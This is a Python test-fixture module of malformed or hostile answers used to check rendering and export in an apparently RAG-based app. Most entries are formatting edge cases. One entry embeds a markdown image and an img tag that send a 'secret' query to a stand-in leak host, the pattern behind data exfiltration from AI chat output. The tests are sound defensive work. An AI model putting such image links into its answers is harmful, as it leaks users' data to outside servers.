"""Answers that broke rendering and export in the issue #12 probe, shared by the tests."""

from __future__ import annotations

# A host no test serves: any request to it, even a failed one, is a leak.
LEAK_HOST = "leak.example"
BAD_ANSWERS = {
    "image": f"RAG grounds answers. ![x](http://{LEAK_HOST}/leak?q=secret) and "
             f"<img src='http://{LEAK_HOST}/img'>",
    "link": f"See [my notes](http://{LEAK_HOST}/notes) for retrieval details.",
    "crossed": "_a **b_ c**",
    "unclosed": "<b>unclosed",
    "entities": "&amp; & < >",
    "arabic": "الاسترجاع المعزز بالتوليد يقلل الهلوسة",
    "emoji": "Retrieval 🔍 then generation 🤖 grounded ✅",
    "control": "before\x00null\x07bell\x1bescape after",
    "long": ("Retrieval augmented generation grounds the model in retrieved chunks. " * 300)[:20_000],
}
EMPTY_ANSWER = ""
